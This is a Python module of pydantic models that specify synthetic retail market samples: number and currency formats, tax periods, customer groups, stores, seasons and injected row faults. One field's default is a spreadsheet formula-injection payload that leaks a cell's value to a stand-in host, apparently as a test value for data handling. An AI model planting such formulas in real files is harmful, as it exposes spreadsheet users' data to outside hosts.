"""What a sample market looks like: the models of `markets/*.yaml`, each merged over `markets/_base.yaml`."""

from __future__ import annotations

from datetime import date
from typing import Any, Literal

from pydantic import Field

from region_profiles.models import Frozen
from region_profiles.source_models import CanonicalTable
from tasks.sample.spec_relations import Business, Campaign, Good, Place, Survey, Voices, Weights
from tasks.sample.spec_tables import TableSpec

#: The sample's history; it ends on a day for which the bundled ECB rates exist, and covers Bulgaria's euro.
FIRST, LAST = date(2023, 7, 1), date(2026, 6, 30)


class Numbers(Frozen):
    """How the market writes numbers."""

    decimal: str = "."
    grouping: str = ""
    sizes: tuple[int, int] = (3, 3)
    """Digits of the last group and of those before it: (3, 2) writes 1,00,000."""
    digits: Literal["latn", "arab", "fullwidth"] = "latn"
    minus: Literal["-", "−", "()", "trailing"] = "-"
    prefix: str = ""
    """Before each amount, such as a currency sign."""


class Period(Frozen):
    """From `since` on, prices are the list's times `factor`, in `currency`."""

    since: date = FIRST
    currency: str
    factor: float = 1.0


class Money(Frozen):
    """Price level and tax. Prices are in the currency's main unit."""

    periods: tuple[Period, ...]
    decimals: int = 2
    price: float
    """Median price of the list."""
    step: float
    less: float = 0.0
    """Prices are multiples of `step` less this: 40 and 0.05 make 39.95."""
    basis: Literal["gross", "net"] = "gross"
    tax: tuple[tuple[date, float], ...] = ()
    """Rates with the day each begins; a store may have its own."""
    gift_cards: tuple[float, ...]
    shipping: float
    maximum: float
    """An amount that no receipt reaches: the profile's plausibility bound."""


class Season(Frozen):
    """Days that sell `factor` times as much; month-day pairs return every year, dates do not."""

    name: str
    factor: float
    yearly: tuple[tuple[int, int], tuple[int, int]] | None = None
    spans: tuple[tuple[date, date], ...] = ()


class Shape(Frozen):
    """Shares of the population and of the orders."""

    prospects: float = 0.2
    one_time: float = 0.33
    """Of the buyers."""
    yearly_orders: float = 3.0
    """Mean of those who come again."""
    heavy: float = 0.03
    """Share of those who come again with six times as many orders."""
    guests: float = 0.1
    """Of the orders."""
    web: float = 0.2
    both_channels: float = 0.15
    returns: float = 0.05
    """Of the goods sold."""
    returns_without_order: float = 0.3
    gift_cards: float = 0.012
    redemptions: float = 0.01
    duplicates: float = 0.002
    """Lines delivered twice, word for word; as many again come corrected, under their old key."""
    second_accounts: float = 0.01
    employees: float = 0.01
    deceased: float = 0.003


class Group(Frozen):
    """People who share names, places and languages."""

    share: float
    market: str | None = None
    visitor: bool = False
    female: tuple[str, ...]
    male: tuple[str, ...]
    family: tuple[str, ...]
    languages: Weights
    countries: Weights
    cities: tuple[tuple[str, str], ...]
    """City and postcode."""


class Store(Frozen):
    """A store as the chain knows it."""

    id: str
    name: str
    city: str = ""
    country: str = ""
    channel: Literal["store", "web", "app"] = "store"
    weight: float = 1.0
    opened: date = date(2015, 3, 2)
    closed: date | None = None
    relocated_to: str | None = None
    """The store it moved to, as the stores table says."""
    instead: str | None = None
    """Where its customers shop before it opens, or after it closed for good; the first store where null."""
    ownership: str = "own"
    zone: str | None = None
    tax: float | None = None
    latitude: str = ""
    longitude: str = ""


class People(Frozen):
    """Everything about customers that is not of a group."""

    groups: tuple[Group, ...]
    streets: tuple[str, ...] = ("",)
    address: str = "{street} {house}"
    name: str = "{given} {family}"
    member: tuple[str, int, int] = ("", 100000, 8)
    """Prefix, first number, digits of the member number."""
    web_member: str = "W"
    """Prefix of second accounts, opened in the web shop."""
    email: tuple[str, tuple[str, ...]] = ("customer", ("example.com", "example.org", "mail.test"))
    phone: tuple[str, ...]
    """Each # is a digit. Ranges kept for fiction where the country has one."""
    tiers: Weights
    consent: dict[str, tuple[float, float, float]] = Field(default_factory=dict)
    """By channel: shares of yes, no, unknown."""
    hostile: str = '=HYPERLINK("http://hostile.test/?leak="&A1,"click")'
    """A given name that a spreadsheet would run."""


class Rates(Frozen):
    """The market's own rate table: made-up figures, near enough to the real ones to be plausible."""

    currency: str
    base: str
    anchors: dict[date, float]
    decimals: int = 2
    noise: float = 0.0004
    """Daily wandering, as a share; 0 for a peg."""


class MarketSpec(Frozen):
    """One drop: one market, or several that share it."""

    drop: str
    markets: dict[str, str]
    """Country: what the drop calls it."""
    zone: str
    encoding: str
    bom: bool = False
    snapshots: tuple[date, ...] = ()
    """Days of older full deliveries, each in a folder of its own below the drop's."""
    numbers: Numbers = Numbers()
    dates: str = "%Y-%m-%d"
    times: str = "%H:%M"
    money: Money
    seasons: tuple[Season, ...] = ()
    weekdays: tuple[float, float, float, float, float, float, float] = (1, 1, 1, 1, 1.2, 1.5, 1.1)
    """Monday to Sunday."""
    rest: tuple[int, ...] = ()
    """Weekdays on which stores are closed (Monday is 0) and only the web shop sells."""
    holidays: tuple[tuple[int, int], ...] = ()
    """Month and day of public holidays, as `rest`."""
    shape: Shape = Shape()
    people: People
    stores: tuple[Store, ...]
    products: tuple[str, ...]
    words: dict[str, dict[str, str]]
    """By column: canonical code, and the market's own word for it."""
    payments: Weights
    counter: tuple[str, ...] = ()
    """Payments that only a till takes: cash and the like."""
    returns: Literal["negative", "amount", "kind"] = "negative"
    """What is negative on a return: quantity and amount, the amount, or nothing but the kind says so."""
    order: tuple[dict[str, str], int] = ({"store": "K", "web": "W", "app": "A"}, 8)
    """Prefix of order numbers by channel, and their digits."""
    tables: dict[CanonicalTable, TableSpec]
    faults: dict[CanonicalTable, dict[str, dict[str, Any] | str | None]] = Field(default_factory=dict)
    """By table and kind: column values that break a row, or `drop`, `add`, `bytes`, `syntax`; null leaves it out."""
    fault_rows: int = 2
    """Broken rows of each kind."""
    rates: Rates | None = None
    goods: dict[str, Good] = Field(default_factory=dict)
    """By name, as in `products`."""
    brands: tuple[str, ...] = ()
    stated: dict[str, Weights] = Field(default_factory=dict)
    """What customers say of themselves when they sign up: the column's words, and how often; "" is no answer."""
    points_last: int = 730
    """Days after which loyalty points expire."""
    campaigns: tuple[Campaign, ...] = ()
    surveys: tuple[Survey, ...] = ()
    voices: Voices | None = None
    interests: tuple[str, ...] = ()
    sources: Weights = Field(default_factory=dict)
    """Of interests."""
    business: Business | None = None
    subdivisions: dict[str, str] = Field(default_factory=dict)
    """By city: its state or province, as customers write it."""
    places: dict[str, Place] = Field(default_factory=dict)
    """By city, as in the groups; others, too."""
